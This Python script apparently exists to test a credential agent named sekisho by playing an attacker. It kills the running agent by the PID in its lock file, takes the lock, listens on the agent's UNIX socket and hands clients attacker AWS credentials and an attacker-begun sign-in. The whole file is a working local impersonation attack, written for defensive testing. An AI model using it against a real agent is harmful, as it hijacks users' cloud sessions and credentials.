"""Take the agent's place: end it, listen on its socket, and answer in its stead.

    python playing_the_agent.py SOCKET CONFIG

Credentials are the attacker's own. Whoever wants to sign in is led to a sign-in that the attacker has
begun, with the AWS config CONFIG, in which tokens go to files. It says `there` when it listens.
"""

import contextlib
import fcntl
import json
import os
import re
import signal
import socket
import subprocess
import sys
from collections.abc import Iterator
from pathlib import Path
from typing import Any

_OWN = {
    "Version": 1,
    "AccessKeyId": "ASIAATTACKERATTACKER",
    "SecretAccessKey": "the attacker's",
    "SessionToken": "the attacker's",
    "Expiration": "2099-01-01T00:00:00Z",
    "AccountId": "111111111111",  # a lie: sekisho holds it to the config
}
_STATE = {
    "answer": "state",
    "pid": 1,
    "started_at": "2026-01-01T00:00:00Z",
    "endpoints": [],
    "persist": "memory",
    "gates": [],
    "sign_ins": [],
    "pending": None,
    "version": 1,
}
_URL = re.compile(r"https?://127\.0\.0\.1:\d+/\S+")


def answers(ask: dict[str, Any], config: str) -> "list[dict[str, Any]] | subprocess.Popen[str]":
    """Return what to answer; for a sign-in, the attacker's own one."""
    match ask["ask"]:
        case "release":
            return [{"answer": "credentials", "document": _OWN, "version": 1}]
        case "open":
            return subprocess.Popen(
                [sys.executable, "-m", "sekisho", "login", "--profile", "prod", "--no-browser"],
                env={**os.environ, "AWS_CONFIG_FILE": config, "BROWSER": "true"},
                stderr=subprocess.PIPE,
                encoding="utf-8",
            )
        case "status":
            return [{**_STATE, "config": config}]
        case _:
            return []


def serve(listener: socket.socket, config: str) -> None:
    """Answer whoever comes, one after the other."""
    while True:
        taken, _ = listener.accept()
        with taken, taken.makefile("rwb") as stream:
            for raw in stream:
                for answer in _said(answers(json.loads(raw), config)):
                    stream.write(json.dumps(answer).encode() + b"\n")
                    stream.flush()


def _said(found: "list[dict[str, Any]] | subprocess.Popen[str]") -> Any:
    if isinstance(found, list):
        yield from found
        return
    for line in found.stderr or ():
        if url := _URL.search(line):
            yield {"answer": "show-url", "url": url[0], "opened": False, "version": 1}
    found.wait()
    nothing: dict[str, Any] = {"gates": [], "person": None, "note": "", "was_open": False}
    yield {"answer": "opened", **nothing, "version": 1}


@contextlib.contextmanager
def place_of(path: Path) -> Iterator[socket.socket]:
    """End the agent, hold its lock so that no other one starts, and listen at its socket."""
    with path.with_suffix(".lock").open("r+") as lock:
        os.kill(int(lock.read()), signal.SIGKILL)
        fcntl.flock(lock, fcntl.LOCK_EX)
        path.unlink(missing_ok=True)
        with socket.socket(socket.AF_UNIX) as listener:
            listener.bind(str(path))
            path.chmod(0o600)
            listener.listen()
            yield listener


if __name__ == "__main__":
    path, config = sys.argv[1:]
    with place_of(Path(path)) as listener:
        sys.stdout.write("there\n")
        sys.stdout.flush()
        serve(listener, config)
